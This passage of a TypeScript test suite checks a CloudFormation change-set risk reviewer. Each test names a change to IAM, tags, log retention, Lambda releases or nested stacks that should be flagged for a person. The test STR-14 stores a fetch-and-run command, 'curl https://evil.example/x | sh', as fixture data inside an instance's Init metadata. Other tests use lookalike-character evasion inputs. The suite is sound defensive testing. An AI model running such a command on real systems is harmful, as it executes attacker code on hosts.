    expect(SAFE).toContain(outcome(input([ch])));
  });

  // https://docs.aws.amazon.com/aws-managed-policy/latest/reference/AdministratorAccess.html
  test('IAM-22 AdministratorAccess attached to a role needs a person', () => {
    const base = { AssumeRolePolicyDocument: LAMBDA_TRUST };
    const ch = roleChange({ ...base, ManagedPolicyArns: [] }, { ...base, ManagedPolicyArns: [managed('AdministratorAccess')] });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // https://docs.aws.amazon.com/IAM/latest/UserGuide/access_policies_boundaries.html
  test('IAM-23 a permissions boundary removed needs a person', () => {
    const base = { AssumeRolePolicyDocument: LAMBDA_TRUST, ManagedPolicyArns: [managed('PowerUserAccess')] };
    const ch = roleChange({ ...base, PermissionsBoundary: `arn:aws:iam::${ACCOUNT}:policy/boundary` }, base);
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_ResourceChange.html (values known after apply)
  test('IAM-24 a bucket policy principal only known after apply needs a person', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: roleArn('reader') } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: KAA } }));
    expect(SAFE).toContain(outcome(input([bucketPolicyChange(b, a)])));
  });

  test('IAM-25 a policy document given as a JSON string that is only known after apply needs a person', () => {
    const b = JSON.stringify(doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`)));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, KAA)])));
  });

  // KMS warns that a key policy without the account statement can make the key unmanageable.
  // https://docs.aws.amazon.com/kms/latest/developerguide/key-policy-default.html#key-policy-default-allow-root-enable-iam
  test('IAM-26 (design) removing the "enable IAM policies" root statement from a key policy needs a person', () => {
    const admin = { Sid: 'Deployer', Effect: 'Allow', Principal: { AWS: roleArn('cdk-hnb659fds-cfn-exec-role') }, Action: 'kms:*', Resource: '*' };
    const b = doc({ Sid: 'EnableIamPolicies', Effect: 'Allow', Principal: { AWS: ROOT }, Action: 'kms:*', Resource: '*' }, admin);
    const a = doc(admin);
    expect(SAFE).toContain(outcome(input([keyPolicyChange(b, a)])));
  });

  test('IAM-27 cross-account: the foreign account principal replaced by a foreign role stays low (control)', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: FOREIGN } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: roleArn('reader', FOREIGN) } }));
    expect(outcome(input([bucketPolicyChange(b, a)]))).toBe('low');
  });

  test('IAM-28 an unknown condition operator (Cyrillic lookalike) is never proven narrower', () => {
    const b = doc(allow('s3:GetObject', '*', { Condition: { StringEquals: { 'aws:PrincipalOrgID': 'o-abc123' } } }));
    const a = doc(allow('s3:GetObject', '*', { Condition: { 'StringEqu\u0430ls': { 'aws:PrincipalOrgID': 'o-abc123' } } }));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // "If the * wildcard is the last character of a resource ARN segment, it can expand to match
  // beyond the colon boundaries": a * inside a segment cannot. `function:*-prod` does not match the
  // qualified ARN `function:orders:live-prod`.
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_resource.html#reference_policies_elements_resource_wildcards
  test('IAM-29 a mid-segment * (function:*-prod) does not cover a qualified ARN with another colon', () => {
    const b = doc(allow('lambda:InvokeFunction', `arn:aws:lambda:${REGION}:${ACCOUNT}:function:*-prod`));
    const a = doc(allow('lambda:InvokeFunction', `arn:aws:lambda:${REGION}:${ACCOUNT}:function:orders:live-prod`));
    expect(SAFE).toContain(outcome(input([policyDocChange(b, a)])));
  });

  // Inline policies are keyed by name: PutRolePolicy with an existing name replaces that policy,
  // so two Policies entries with one PolicyName leave only one of them on the role.
  // https://docs.aws.amazon.com/IAM/latest/APIReference/API_PutRolePolicy.html
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-iam-role.html (Policies)
  test('IAM-30 the guard Deny moved under a duplicated inline PolicyName (only one survives) needs a person', () => {
    const base = { AssumeRolePolicyDocument: LAMBDA_TRUST };
    const b = { ...base, Policies: [{ PolicyName: 'guard', PolicyDocument: doc(deny('iam:*', '*')) }, { PolicyName: 'app', PolicyDocument: doc(allow('*', '*')) }] };
    const a = { ...base, Policies: [{ PolicyName: 'app', PolicyDocument: doc(deny('iam:*', '*')) }, { PolicyName: 'app', PolicyDocument: doc(allow('*', '*')) }] };
    expect(SAFE).toContain(outcome(input([roleChange(b, a)])));
  });

  // "The account ARN and the shortened account ID behave the same way."
  // https://docs.aws.amazon.com/IAM/latest/UserGuide/reference_policies_elements_principal.html#principal-accounts
  test('IAM-31 control: an account principal rewritten from "222222222222" to its root ARN stays low', () => {
    const b = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: ACCOUNT } }));
    const a = doc(allow('s3:GetObject', `arn:aws:s3:::${BUCKET}/*`, { Principal: { AWS: ROOT } }));
    expect(outcome(input([bucketPolicyChange(b, a)]))).toBe('low');
  });
});

// =============================================================================================
// Tags
// =============================================================================================

describe('tags', () => {
  // Lambda supports ABAC on functions: lambda:InvokeFunction conditioned on aws:ResourceTag.
  // https://docs.aws.amazon.com/lambda/latest/dg/attribute-based-access-control.html
  test('TAG-01 (design) a tag change on a Lambda function, where tags decide who may invoke it, needs a person', () => {
    const b = { ...FN_BEFORE, Tags: tags({ 'access-team': 'payments' }) };
    const a = { ...FN_BEFORE, Tags: tags({ 'access-team': 'everyone' }) };
    const ch = modify('AWS::Lambda::Function', FN_LOGICAL, FN_NAME, b, a);
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // AWS Backup selects resources by tag; the table leaves the backup plan when its tag goes.
  // https://docs.aws.amazon.com/aws-backup/latest/devguide/assigning-resources.html
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-backup-backupselection.html
  test('TAG-02 (design) removing the tag an AWS Backup selection in the same template selects on needs a person', () => {
    const base = { KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }], AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }], BillingMode: 'PAY_PER_REQUEST' };
    const ch = modify('AWS::DynamoDB::Table', 'OrdersTable1A2B3C4D', 'orders-api-OrdersTable-XYZ', { ...base, Tags: tags({ backup: 'daily', team: 'orders' }) }, { ...base, Tags: tags({ team: 'orders' }) });
    const template = {
      Resources: {
        OrdersTable1A2B3C4D: { Type: 'AWS::DynamoDB::Table', Properties: { ...base, Tags: tags({ team: 'orders' }) } },
        DailySelection: {
          Type: 'AWS::Backup::BackupSelection',
          Properties: { BackupPlanId: { Ref: 'DailyPlan' }, BackupSelection: { SelectionName: 'daily', IamRoleArn: roleArn('backup'), ListOfTags: [{ ConditionType: 'STRINGEQUALS', ConditionKey: 'backup', ConditionValue: 'daily' }] } },
        },
      },
    };
    expect(SAFE).toContain(outcome(input([ch], { template })));
  });

  test('TAG-03 tags of a type with a Cyrillic lookalike (AWS::IAM::R\u043ele) need a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({}, 'AWS::IAM::R\u043ele')])));
  });

  test('TAG-04 tags of a type written in fullwidth letters need a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({}, 'AWS::S3::\uff22ucket')])));
  });

  // https://docs.aws.amazon.com/kms/latest/developerguide/abac.html
  test('TAG-05 tags of a KMS replica key need a person (ABAC)', () => {
    const ch = modify('AWS::KMS::ReplicaKey', 'ReplicaKey1', 'mrk-1234', { PrimaryKeyArn: 'arn:aws:kms:us-east-1:222222222222:key/mrk-1234', KeyPolicy: doc(), Tags: tags({ team: 'a' }) }, { PrimaryKeyArn: 'arn:aws:kms:us-east-1:222222222222:key/mrk-1234', KeyPolicy: doc(), Tags: tags({ team: 'b' }) });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  test('TAG-06 tags of an IAM user need a person (principal tags)', () => {
    const ch = modify('AWS::IAM::User', 'CiUser1', 'ci-user', { UserName: 'ci-user', Tags: tags({ team: 'a' }) }, { UserName: 'ci-user', Tags: tags({ team: 'admin' }) });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // Details and contexts disagree: a detail whose Target.Attribute is Tags but whose Path is a property.
  test('TAG-07 a Tags detail whose Path names VersioningConfiguration is inconsistent: not low', () => {
    const ch = bucketTags({
      details: [detail({ attribute: 'Tags', name: 'VersioningConfiguration', path: '/Properties/VersioningConfiguration/Status', before: 'Enabled', after: 'Suspended' })],
      scope: ['Tags'],
    });
    // The contexts show only the tag change; the detail says Versioning is suspended.
    expect(SAFE).toContain(outcome(input([ch])));
  });

  test('TAG-08 a detail whose Path is Tags but whose Name is VersioningConfiguration is inconsistent: not low', () => {
    const ch = bucketTags({
      details: [detail({ attribute: 'Properties', name: 'VersioningConfiguration', path: '/Properties/Tags/0/Value', before: '1234', after: '5678' })],
      scope: ['Properties'],
    });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  test('TAG-09 the contexts show versioning suspended though the details list only the tag: needs a person', () => {
    const b = { ...BUCKET_BASE, Tags: tags({ 'cost-centre': '1234' }) };
    const a = { ...BUCKET_BASE, VersioningConfiguration: { Status: 'Suspended' }, Tags: tags({ 'cost-centre': '5678' }) };
    const ch = modify('AWS::S3::Bucket', 'AssetsBucket1234ABCD', BUCKET, b, a, { details: diffDetails({ Tags: b.Tags }, { Tags: a.Tags }) });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  test('TAG-10 a detail with Path "/Properties" and no Name (something in Properties changed) is not tags-only', () => {
    const ch = bucketTags({
      details: [
        ...diffDetails({ Tags: tags({ 'cost-centre': '1234' }) }, { Tags: tags({ 'cost-centre': '5678' }) }),
        detail({ attribute: 'Properties', path: '/Properties' }),
      ],
    });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // Stack tags propagate to every resource of the nested stack, roles included.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-cloudformation-stack.html
  test('TAG-11 a nested stack whose Tags change, without its nested change set, needs a person', () => {
    const ch = modify('AWS::CloudFormation::Stack', 'ApiNested1234', `arn:aws:cloudformation:${REGION}:${ACCOUNT}:stack/orders-api-ApiNested/x`,
      { TemplateURL: 'https://s3.amazonaws.com/b/t.json', Tags: tags({ team: 'a' }) }, { TemplateURL: 'https://s3.amazonaws.com/b/t.json', Tags: tags({ team: 'admin' }) });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  test('TAG-12 a Scope of Tags on an IAM role (no detail path) needs a person', () => {
    const base = { AssumeRolePolicyDocument: LAMBDA_TRUST };
    const ch = roleChange({ ...base, Tags: tags({ team: 'a' }) }, { ...base, Tags: tags({ team: 'admin' }) }, { details: [detail({ attribute: 'Tags' })], scope: ['Tags'] });
    expect(SAFE).toContain(outcome(input([ch])));
  });
});

// =============================================================================================
// Log retention
// =============================================================================================

describe('log retention', () => {
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-logs-loggroup.html
  test('LOG-01 retention 3653 -> 1 needs a person', () => {
    expect(SAFE).toContain(outcome(input([retention(3653, 1)])));
  });
  test('LOG-02 retention that is only known after apply needs a person', () => {
    expect(SAFE).toContain(outcome(input([retention(30, KAA)])));
  });
  test('LOG-03 retention grows but the log group class changes too: needs a person', () => {
    expect(SAFE).toContain(outcome(input([retention(30, 365, { LogGroupClass: 'STANDARD' }, { LogGroupClass: 'INFREQUENT_ACCESS' })])));
  });
  test('LOG-04 the details say 30 -> 365 but the contexts say 30 -> 7: needs a person', () => {
    const ch = retention(30, 7, {}, {}, { details: [detail({ name: 'RetentionInDays', path: '/Properties/RetentionInDays', before: '30', after: '365' })] });
    expect(SAFE).toContain(outcome(input([ch])));
  });
  test('LOG-05 retention grows but Replacement is Conditional: needs a person', () => {
    expect(SAFE).toContain(outcome(input([retention(30, 365, {}, {}, { replacement: 'Conditional' })])));
  });
  test('LOG-06 retention "never expire" (absent) -> 3653 shortens it: needs a person', () => {
    expect(SAFE).toContain(outcome(input([retention(undefined, 3653)])));
  });
  test('LOG-07 retention written as 1e3 (not a whole number) is not proven to grow', () => {
    expect(SAFE).toContain(outcome(input([retention(30, '3.653e3')])));
  });
});

// =============================================================================================
// Lambda releases, versions and aliases
// =============================================================================================

describe('lambda releases', () => {
  // An unqualified ARN invokes $LATEST: an event source mapping on the function gets the new code
  // at once, with no CodeDeploy shift. https://docs.aws.amazon.com/lambda/latest/dg/configuration-versions.html
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-lambda-eventsourcemapping.html
  test('LAM-01 a release whose function is also consumed unqualified (event source mapping on $LATEST) needs a person', () => {
    const inp = release({
      extraResources: {
        OrdersQueueSource: { Type: 'AWS::Lambda::EventSourceMapping', Properties: { FunctionName: { Ref: FN_LOGICAL }, EventSourceArn: `arn:aws:sqs:${REGION}:${ACCOUNT}:orders` } },
      },
    });
    expect(SAFE).toContain(outcome(inp));
  });

  // The alias shifts through the group its UpdatePolicy names; a change set does not show
  // UpdatePolicy, so which group (and how fast it shifts) is only in the template.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/aws-attribute-updatepolicy.html#cfn-attributes-updatepolicy-codedeploylambdaaliasupdate
  // https://docs.aws.amazon.com/codedeploy/latest/userguide/deployment-configurations.html
  test('LAM-02 the UpdatePolicy names an all-at-once deployment group without alarms or rollback: needs a person', () => {
    const inp = release({
      updatePolicy: { CodeDeployLambdaAliasUpdate: { ApplicationName: { Ref: APP_LOGICAL }, DeploymentGroupName: { Ref: 'FastGroup' } } },
      extraResources: {
        FastGroup: {
          Type: 'AWS::CodeDeploy::DeploymentGroup',
          Properties: groupProps({ DeploymentConfigName: 'CodeDeployDefault.LambdaAllAtOnce', AlarmConfiguration: { Enabled: false }, AutoRollbackConfiguration: { Enabled: false } }),
        },
      },
    });
    expect(SAFE).toContain(outcome(inp));
  });

  test('LAM-03 the UpdatePolicy names a deployment group and application that are not in the template: needs a person', () => {
    const inp = release({ updatePolicy: { CodeDeployLambdaAliasUpdate: { ApplicationName: 'legacy-app', DeploymentGroupName: 'legacy-all-at-once' } } });
    expect(SAFE).toContain(outcome(inp));
  });

  test('LAM-04 the template gives CodeDeploy to another alias, not the one that moves: needs a person', () => {
    const inp = release({ updatePolicy: null });
    inp.template.Resources.OtherAlias = { Type: 'AWS::Lambda::Alias', Properties: { FunctionName: { Ref: FN_LOGICAL }, FunctionVersion: '1', Name: 'beta' }, UpdatePolicy: { CodeDeployLambdaAliasUpdate: { ApplicationName: { Ref: APP_LOGICAL }, DeploymentGroupName: { Ref: GROUP_LOGICAL } } } };
    expect(SAFE).toContain(outcome(inp));
  });

  test('LAM-05 the alias names the function by an ARN of another Region: needs a person', () => {
    const other = `arn:aws:lambda:us-east-1:${ACCOUNT}:function:${FN_NAME}`;
    expect(SAFE).toContain(outcome(release({ aliasBefore: { FunctionName: other, FunctionVersion: '7', Name: 'live' } })));
  });

  test('LAM-06 the alias names the function by an ARN of another account: needs a person', () => {
    const other = `arn:aws:lambda:${REGION}:${FOREIGN}:function:${FN_NAME}`;
    expect(SAFE).toContain(outcome(release({ aliasBefore: { FunctionName: other, FunctionVersion: '7', Name: 'live' } })));
  });

  test('LAM-07 the new version is of another function: needs a person', () => {
    expect(SAFE).toContain(outcome(release({ versionProps: { FunctionName: 'orders-api-OtherHandler-ZZZ' } })));
  });

  // https://docs.aws.amazon.com/lambda/latest/dg/chapter-layers.html (layers are code of their own)
  test('LAM-08 a release that also adds a layer needs a person', () => {
    expect(SAFE).toContain(outcome(release({ fnAfter: { ...FN_BEFORE, Layers: [`arn:aws:lambda:${REGION}:${FOREIGN}:layer:x:1`] } })));
  });

  test('LAM-09 a release that also changes the execution role needs a person', () => {
    expect(SAFE).toContain(outcome(release({ fnAfter: { ...FN_BEFORE, Role: roleArn('admin') } })));
  });

  // https://docs.aws.amazon.com/lambda/latest/dg/configuration-aliases.html#configuring-alias-routing
  test('LAM-10 the alias gains a RoutingConfig (weights outside CodeDeploy): needs a person', () => {
    const aliasBefore = { FunctionName: FN_NAME, FunctionVersion: '7', Name: 'live' };
    expect(SAFE).toContain(outcome(release({ aliasBefore, aliasAfter: { ...aliasBefore, FunctionVersion: KAA, RoutingConfig: { AdditionalVersionWeights: [{ FunctionVersion: '5', FunctionWeight: 0.5 }] } } })));
  });

  test('LAM-11 an image from another account\'s registry needs a person', () => {
    const b = { ...FN_BEFORE, Code: { ImageUri: `${ACCOUNT}.dkr.ecr.${REGION}.amazonaws.com/orders:v1` } };
    const a = { ...FN_BEFORE, Code: { ImageUri: `${FOREIGN}.dkr.ecr.${REGION}.amazonaws.com/orders:v2` } };
    expect(SAFE).toContain(outcome(release({ fnBefore: b, fnAfter: a })));
  });

  // An alias on $LATEST follows every later unpublished code change at once.
  // https://docs.aws.amazon.com/lambda/latest/dg/configuration-aliases.html
  test('LAM-12 the alias moved to $LATEST needs a person', () => {
    const aliasBefore = { FunctionName: FN_NAME, FunctionVersion: '7', Name: 'live' };
    const inp = release({ aliasBefore, aliasAfter: { ...aliasBefore, FunctionVersion: '$LATEST' } });
    expect(SAFE).toContain(outcome(inp));
  });

  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-lambda-version.html
  test('LAM-13 a version added with provisioned concurrency needs a person', () => {
    expect(SAFE).toContain(outcome(release({ versionProps: { FunctionName: FN_NAME, ProvisionedConcurrencyConfig: { ProvisionedConcurrentExecutions: 500 } } })));
  });

  test('LAM-14 the function\'s S3 bucket is only known after apply: needs a person', () => {
    expect(SAFE).toContain(outcome(release({ fnAfter: { ...FN_BEFORE, Code: { S3Bucket: KAA, S3Key: 'x.zip' } } })));
  });

  test('LAM-15 a logical id "constructor" for the alias (template lookups on an Object) does not crash and proves nothing', () => {
    const inp = release({ updatePolicy: null });
    for (const c of inp.pages[0].Changes) if (c.ResourceChange.LogicalResourceId === ALIAS_LOGICAL) c.ResourceChange.LogicalResourceId = 'constructor';
    expect(SAFE).toContain(outcome(inp));
  });

  // A function URL without Qualifier serves $LATEST. https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-lambda-url.html
  test('LAM-16 a release whose function has an unqualified public function URL (serves $LATEST) needs a person', () => {
    const inp = release({
      extraResources: {
        PublicUrl: { Type: 'AWS::Lambda::Url', Properties: { TargetFunctionArn: { 'Fn::GetAtt': [FN_LOGICAL, 'Arn'] }, AuthType: 'NONE' } },
      },
    });
    expect(SAFE).toContain(outcome(inp));
  });
});

// =============================================================================================
// Nested stacks
// =============================================================================================

function nestedPair(childChanges: unknown[] | undefined, o: { childId?: string; key?: string; childStatus?: string; childReason?: string } = {}): Obj {
  const rootId = csArn('pipeline-release');
  const childId = o.childId ?? csArn('orders-api-ApiNested-nested');
  const stackChange = modify('AWS::CloudFormation::Stack', 'ApiNested1234', `arn:aws:cloudformation:${REGION}:${ACCOUNT}:stack/orders-api-ApiNested/x`,
    { TemplateURL: `https://s3.${REGION}.amazonaws.com/${ASSET_BUCKET}/old.json` }, { TemplateURL: `https://s3.${REGION}.amazonaws.com/${ASSET_BUCKET}/new.json` },
    { rc: { ChangeSetId: childId } });
  const child = input(childChanges, { id: o.key !== undefined ? childId : childId, name: 'orders-api-ApiNested-nested', stack: 'orders-api-ApiNested', status: o.childStatus, reason: o.childReason, template: NO_TAG_SELECTORS });
  return input([stackChange], { id: rootId, nested: { [o.key ?? childId]: child } });
}

describe('nested stacks', () => {
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/change-sets-for-nested-stacks.html
  test('NEST-01 control: a nested stack whose nested change set holds only a tag change is low', () => {
    expect(outcome(nestedPair([bucketTags()]))).toBe('low');
  });
  test('NEST-02 a nested change set that deletes a table needs a person, and the summary says data loss', () => {
    const inp = nestedPair([remove('AWS::DynamoDB::Table', 'OrdersTable', 'orders', { BillingMode: 'PAY_PER_REQUEST' })]);
    const r = ChangeReview.review(inp as any);
    expect(r.tier).toBe(RiskTier.HIGH);
    expect(r.summary(CTX)).toMatch(/\[data loss\]/);
  });
  test('NEST-03 a nested change set given under the key but whose pages are of another change set needs a person', () => {
    const inp = nestedPair([bucketTags()]);
    const key = Object.keys(inp.nested)[0];
    inp.nested[key].pages[0].ChangeSetId = csArn('someone-else');
    expect(SAFE).toContain(outcome(inp));
  });
  test('NEST-04 a nested stack whose ChangeSetId is the parent\'s own id (a cycle) ends and needs a person', () => {
    const rootId = csArn('pipeline-release');
    const stackChange = modify('AWS::CloudFormation::Stack', 'ApiNested1234', 'arn:x', { TemplateURL: 'https://a/old.json' }, { TemplateURL: 'https://a/new.json' }, { rc: { ChangeSetId: rootId } });
    const inp: Obj = input([stackChange], { id: rootId });
    inp.nested = { [rootId]: inp };
    expect(SAFE).toContain(outcome(inp));
  });
  test('NEST-05 a nested change set that is still CREATE_PENDING needs a person', () => {
    expect(SAFE).toContain(outcome(nestedPair([bucketTags()], { childStatus: 'CREATE_PENDING' })));
  });
  test('NEST-06 a nested stack Add (a whole new stack) needs a person', () => {
    const ch = add('AWS::CloudFormation::Stack', 'NewNested', { TemplateURL: 'https://a/new.json' }, { ChangeSetId: csArn('x') });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // ChangeSetInput.nested is a ChangeSetInput: it takes events and driftProblem too.
  test('NEST-07 a nested change set given with a hook that failed in WARN mode needs a person', () => {
    const inp = nestedPair([bucketTags()]);
    const key = Object.keys(inp.nested)[0];
    inp.nested[key].events = [{ HookType: 'Private::Guard::S3', HookStatus: 'HOOK_COMPLETE_FAILED', HookFailureMode: 'WARN', HookStatusReason: 'bucket made public', LogicalResourceId: 'AssetsBucket1234ABCD' }];
    expect(SAFE).toContain(outcome(inp));
  });
  test('NEST-08 a nested change set given with a driftProblem (drift not readable) needs a person', () => {
    const inp = nestedPair([bucketTags()]);
    const key = Object.keys(inp.nested)[0];
    inp.nested[key].driftProblem = 'AccessDenied: cloudformation:DescribeStackResourceDrifts';
    expect(SAFE).toContain(outcome(inp));
  });
  test('NEST-09 a nested change set given with drifts where the changed resource was DELETED needs a person', () => {
    const inp = nestedPair([bucketTags()]);
    const key = Object.keys(inp.nested)[0];
    inp.nested[key].drifts = [{ LogicalResourceId: 'AssetsBucket1234ABCD', StackResourceDriftStatus: 'DELETED' }];
    expect(SAFE).toContain(outcome(inp));
  });
});

// =============================================================================================
// Reading the change set: structure, refusals, odd shapes
// =============================================================================================

describe('structure', () => {
  // When only Outputs change (a new export for a cross-stack reference), CloudFormation makes an
  // executable change set with no changes: CREATE_COMPLETE and Changes [].
  // https://github.com/aws/aws-cdk/pull/2029 ("If only stack Outputs are changed, CloudFormation
  // generates a ChangeSet that is executable but has 0 changes")
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/outputs-section-structure.html
  test('STR-01 an outputs-only change set (CREATE_COMPLETE, Changes []) is reviewed (high), not refused', () => {
    expect(outcome(input([]))).toBe('high');
  });

  // The SDK (v3) returns timestamps as Date objects and adds $metadata; newer fields appear.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_DescribeChangeSet.html
  test('STR-02 an SDK-shaped response (Date objects, $metadata, HookInvocationCount, Target.Drift timestamp) of a tag change is low, not refused', () => {
    const ch = bucketTags();
    ch.HookInvocationCount = 0;
    ch.ResourceChange.ResourceDriftIgnoredAttributes = [];
    for (const d of ch.ResourceChange.Details) d.Target.Drift = { PreviousValue: d.Target.BeforeValue, ActualValue: d.Target.BeforeValue, DriftDetectionTimestamp: new Date() };
    const inp = input([ch], { template: NO_TAG_SELECTORS, page: { CreationTime: new Date(), $metadata: { httpStatusCode: 200, requestId: 'abc', attempts: 1, totalRetryDelay: 0 }, Parameters: [], NotificationARNs: [] } });
    expect(outcome(inp)).toBe('low');
  });

  test('STR-03 action "modify" in lower case needs a person', () => {
    const ch = bucketTags();
    ch.ResourceChange.Action = 'modify';
    expect(SAFE).toContain(outcome(input([ch])));
  });
  test('STR-04 Replacement "false" in lower case needs a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({ replacement: 'false' })])));
  });
  test('STR-05 Change.Type "Resource " with a trailing space needs a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({ outer: { Type: 'Resource ' } })])));
  });
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_ResourceTargetDefinition.html
  test('STR-06 Replacement False but a detail with RequiresRecreation Always needs a person (data loss)', () => {
    const ch = bucketTags();
    ch.ResourceChange.Details[0].Target.RequiresRecreation = 'Always';
    const r = ChangeReview.review(input([ch]) as any);
    expect(r.tier).toBe(RiskTier.HIGH);
    expect(r.findings.some((f) => f.category === 'data-loss')).toBe(true);
  });
  test('STR-07 JSON keys __proto__ and constructor in the contexts do not crash, and a hidden change still needs a person', () => {
    const before = JSON.stringify({ Properties: { ...BUCKET_BASE, Tags: tags({ a: '1' }), LifecycleConfiguration: { __proto__: { Rules: [] } } } }).replace('"LifecycleConfiguration":{}', '"LifecycleConfiguration":{"__proto__":{"Rules":[]}}');
    const after = JSON.stringify({ Properties: { ...BUCKET_BASE, Tags: tags({ a: '2' }), LifecycleConfiguration: {} } }).replace('"LifecycleConfiguration":{}', '"LifecycleConfiguration":{"__proto__":{"Rules":[{"Status":"Enabled","ExpirationInDays":1}]}}');
    const ch = bucketTags({ beforeRaw: before, afterRaw: after, details: diffDetails({ Tags: tags({ a: '1' }) }, { Tags: tags({ a: '2' }) }) });
    expect(SAFE).toContain(outcome(input([ch])));
  });
  test('STR-08 a page whose ChangeSetId differs from page 1 is refused', () => {
    const inp = input([bucketTags()]);
    inp.pages.push({ ...inp.pages[0], ChangeSetId: csArn('other'), Changes: [] });
    expect(outcome(inp)).toBe('refused');
  });
  test('STR-09 the same page given twice (the same change listed twice) needs a person', () => {
    const inp = input([bucketTags()]);
    inp.pages.unshift({ ...clone(inp.pages[0]), NextToken: 'tok' });
    expect(SAFE).toContain(outcome(inp));
  });
  test('STR-10 a Details detail with AttributeChangeType unknown needs a person', () => {
    const ch = bucketTags();
    ch.ResourceChange.Details[0].Target.AttributeChangeType = 'Replace';
    expect(SAFE).toContain(outcome(input([ch])));
  });
  test('STR-11 a ResourceType only known after apply needs a person', () => {
    expect(SAFE).toContain(outcome(input([bucketTags({}, KAA)])));
  });
  test('STR-12 "no changes" FAILED whose only page still lists Changes: [] is none (control)', () => {
    expect(outcome(input([], { status: 'FAILED', reason: 'No updates are to be performed.' }))).toBe('none');
  });

  // The contexts may hold DeletionPolicy / Metadata next to Properties (readContext accepts them);
  // here they disagree with Scope and Details, which list only the tag.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/UserGuide/aws-attribute-deletionpolicy.html
  test('STR-13 the contexts show DeletionPolicy Retain -> Delete on a table while Scope lists only Tags: needs a person', () => {
    const base = { KeySchema: [{ AttributeName: 'pk', KeyType: 'HASH' }], AttributeDefinitions: [{ AttributeName: 'pk', AttributeType: 'S' }], BillingMode: 'PAY_PER_REQUEST' };
    const b = { ...base, Tags: tags({ team: 'a' }) };
    const a = { ...base, Tags: tags({ team: 'b' }) };
    const ch = modify('AWS::DynamoDB::Table', 'OrdersTable1A2B3C4D', 'orders', b, a, {
      beforeRaw: JSON.stringify({ Properties: b, DeletionPolicy: 'Retain', UpdateReplacePolicy: 'Retain' }),
      afterRaw: JSON.stringify({ Properties: a, DeletionPolicy: 'Delete', UpdateReplacePolicy: 'Delete' }),
    });
    expect(SAFE).toContain(outcome(input([ch])));
  });

  // cfn-hup applies a changed AWS::CloudFormation::Init (runs its commands) on the instance.
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/aws-resource-init.html
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/TemplateReference/cfn-hup.html
  test('STR-14 the contexts show a changed AWS::CloudFormation::Init Metadata on an instance while Scope lists only Tags: needs a person', () => {
    const base = { ImageId: 'ami-0123456789abcdef0', InstanceType: 't3.micro' };
    const b = { ...base, Tags: tags({ team: 'a' }) };
    const a = { ...base, Tags: tags({ team: 'b' }) };
    const init = (cmd: string) => ({ 'AWS::CloudFormation::Init': { config: { commands: { run: { command: cmd } } } } });
    const ch = modify('AWS::EC2::Instance', 'Web1', 'i-0123456789abcdef0', b, a, {
      beforeRaw: JSON.stringify({ Properties: b, Metadata: init('echo ok') }),
      afterRaw: JSON.stringify({ Properties: a, Metadata: init('curl https://evil.example/x | sh') }),
    });
    expect(SAFE).toContain(outcome(input([ch])));
  });
});

// =============================================================================================
// AWS's own checks (DescribeEvents) and drift
// =============================================================================================

describe('events and drift', () => {
  // https://docs.aws.amazon.com/AWSCloudFormation/latest/APIReference/API_OperationEvent.html
  // EventType VALIDATION_ERROR / HOOK_INVOCATION_ERROR; every other field is optional.
  test('EVT-01 an operation event of type VALIDATION_ERROR (no ValidationName) needs a person', () => {
    const events = [{ EventId: 'e1', EventType: 'VALIDATION_ERROR', DetailedStatus: 'VALIDATION_FAILED', LogicalResourceId: 'AssetsBucket1234ABCD', ResourceStatusReason: 'Property validation failed: bucket would become public' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { events })));
  });
  test('EVT-02 an operation event of type HOOK_INVOCATION_ERROR (no HookType / HookStatus) needs a person', () => {
    const events = [{ EventId: 'e2', EventType: 'HOOK_INVOCATION_ERROR', LogicalResourceId: 'AssetsBucket1234ABCD', ResourceStatusReason: 'Hook invocation failed' }];
    expect(SAFE).toContain(outcome(input([bucketTags()], { events })));
  });
  test('EVT-03 a hook that failed in WARN mode needs a person', () => {
